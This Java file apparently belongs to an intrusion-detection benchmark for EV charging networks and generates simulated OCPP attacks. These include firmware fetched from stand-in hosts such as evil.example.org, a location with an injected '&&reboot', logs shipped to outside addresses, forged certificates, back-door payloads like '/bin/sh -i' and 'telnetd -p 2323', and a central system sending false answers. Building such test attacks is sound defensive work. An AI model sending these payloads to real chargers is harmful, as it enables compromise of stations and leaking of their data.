// SPDX-License-Identifier: Apache-2.0
package io.ferrule.benchmarks.ids.unseen;

import static io.ferrule.benchmarks.ids.unseen.Moves.any;
import static io.ferrule.benchmarks.ids.unseen.Moves.old;
import static io.ferrule.benchmarks.ids.unseen.Moves.some;
import static io.ferrule.benchmarks.ids.unseen.Moves.unevenly;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.ferrule.benchmarks.ids.attack.Attack;
import io.ferrule.benchmarks.ids.attack.Stage;
import io.ferrule.benchmarks.ids.simulation.Json;
import io.ferrule.benchmarks.ids.simulation.Station;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.function.UnaryOperator;

/** A47 to A49 and A51 to A53: software, logs, roots, back doors, and answers that lie. */
final class TrustAttacks {

    private static final String URL = "https://fw.example.com/new.bin";

    private TrustAttacks() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>(software());
        all.addAll(transfers());
        all.addAll(lies());
        return all;
    }

    private static List<Attack> software() {
        return List.of(
                new Attack(
                        "A47",
                        "software for 2.0.1 from elsewhere",
                        s -> s.command(
                                s.modern(),
                                "UpdateFirmware",
                                Json.object(
                                        "requestId",
                                        some(s, 1, 99),
                                        "firmware",
                                        Json.object(
                                                "location",
                                                any(
                                                        s,
                                                        List.of(
                                                                "http://fw.example.com/x",
                                                                "https://10.0.0.9/x.bin",
                                                                URL + "&&reboot")),
                                                "retrieveDateTime",
                                                s.time())))),
                new Attack(
                        "A47",
                        "signed software from a stranger",
                        s -> s.command(
                                "SignedUpdateFirmware",
                                Json.object(
                                        "requestId",
                                        3,
                                        "firmware",
                                        Json.object(
                                                "location",
                                                "https://dl" + some(s, 1, 9) + ".evil.example.org/f.bin",
                                                "retrieveDateTime",
                                                s.time(),
                                                "signingCertificate",
                                                "MIIB",
                                                "signature",
                                                "AAAA")))),
                new Attack(
                        "A47",
                        "software with a password for 1.5",
                        s -> old(
                                s,
                                o -> o.command(
                                        "UpdateFirmware",
                                        Json.object(
                                                "location",
                                                "ftp://root:root@198.51.100.3/h1.img",
                                                "retrieveDate",
                                                s.time()),
                                        Json.object()))),
                new Attack(
                        "A48",
                        "the log of 2.0.1 to the next host",
                        s -> s.command(
                                s.modern(),
                                "GetLog",
                                Json.object(
                                        "logType",
                                        "DiagnosticsLog",
                                        "requestId",
                                        some(s, 1, 99),
                                        "log",
                                        Json.object("remoteLocation", "http://172.16." + some(s, 0, 9) + ".4:8080/")))),
                new Attack(
                        "A48",
                        "what a 1.5 station knows, to anybody",
                        s -> old(
                                s,
                                o -> o.command(
                                        "GetDiagnostics",
                                        Json.object(
                                                "location", "ftp://anonymous@198.51.100.4/in", "retries", 99_999_999),
                                        Json.object("fileName", "d.zip")))),
                new Attack(
                        "A49",
                        "a certificate for the CSMS, by nobody known, at 2.0.1",
                        s -> s.command(
                                s.modern(),
                                "InstallCertificate",
                                Json.object("certificateType", "ManufacturerRootCertificate", "certificate", pem(s)))),
                new Attack(
                        "A49",
                        "a key that the station never had",
                        s -> s.command(s.modern(), "CertificateSigned", Json.object("certificateChain", pem(s)))));
    }

    private static String pem(Stage stage) {
        byte[] noise = new byte[some(stage, 300, 600)];
        for (int i = 0; i < noise.length; i++) {
            noise[i] = (byte) stage.dice(256);
        }
        return "-----BEGIN CERTIFICATE-----\n" + Base64.getEncoder().encodeToString(noise)
                + "\n-----END CERTIFICATE-----\n";
    }

    private static List<Attack> transfers() {
        return List.of(
                new Attack(
                        "A51",
                        "a back door at 2.0.1",
                        s -> s.command(
                                s.modern(),
                                "DataTransfer",
                                Json.object(
                                        "vendorId",
                                        any(s, List.of("debug", "com.maintenance.tool", "sh")),
                                        "messageId",
                                        "run",
                                        "data",
                                        any(s, List.of("id; uname -a", "/bin/sh -i", "telnetd -p 2323"))))),
                new Attack(
                        "A51",
                        "what a 1.5 station shall decode",
                        s -> old(
                                s,
                                o -> o.command(
                                        "DataTransfer",
                                        Json.object(
                                                "vendorId", "Hazel",
                                                "messageId", "img",
                                                "data",
                                                        Base64.getEncoder()
                                                                .encodeToString(new byte[some(s, 1_200, 4_000)])),
                                        Stage.ACCEPTED))));
    }

    /** The CSMS answers the victim so for a while; the victim asks often enough. */
    private static void lie(Stage stage, Station station, String action, UnaryOperator<ObjectNode> change) {
        stage.estate().central().lies(station.channel().station(), action, change);
        stage.later(
                1_500,
                () -> stage.estate().central().lies(station.channel().station(), action, UnaryOperator.identity()));
    }

    private static List<Attack> lies() {
        return List.of(
                new Attack("A52", "a clock that runs away, three minutes at a time", s -> {
                    int[] turn = {0};
                    lie(s, s.victim(), "Heartbeat", a -> {
                        Instant told = Instant.parse(a.path("currentTime").asText());
                        return a.put(
                                "currentTime",
                                told.plusSeconds(180L * ++turn[0]).toString());
                    });
                    unevenly(s, 40, 80, 20, i -> s.blurts("Heartbeat", Json.object()));
                }),
                new Attack("A52", "no time between heartbeats at 2.0.1", s -> {
                    lie(s, s.modern(), "BootNotification", a -> a.put("interval", any(s, List.of(0, 1, 2))));
                    s.modern()
                            .tell(
                                    "BootNotification",
                                    Json.object(
                                            "reason",
                                            "RemoteReset",
                                            "chargingStation",
                                            Json.object(
                                                    "model", s.modern().habits().model(),
                                                    "vendorName",
                                                            s.modern().habits().maker())));
                }),
                new Attack("A53", "one number for every charge", s -> {
                    int number = some(s, 2, 900);
                    s.fleet().forEach(st -> lie(s, st, "StartTransaction", a -> a.put("transactionId", number)));
                    Moves.all(
                            s,
                            10,
                            60,
                            st -> s.says(
                                    st.channel(),
                                    "StartTransaction",
                                    Moves.start(s, 1, s.drivers().card(), st.register(1))));
                }),
                new Attack("A53", "no card is good at 2.0.1", s -> {
                    lie(s, s.modern(), "Authorize", a ->
                            (ObjectNode) a.set("idTokenInfo", Json.object("status", "Blocked")));
                    unevenly(s, 20, 60, 25, i -> s.modern()
                            .tell(
                                    "Authorize",
                                    Json.object(
                                            "idToken",
                                            Json.object("idToken", s.drivers().card(), "type", "ISO14443"))));
                }));
    }
}
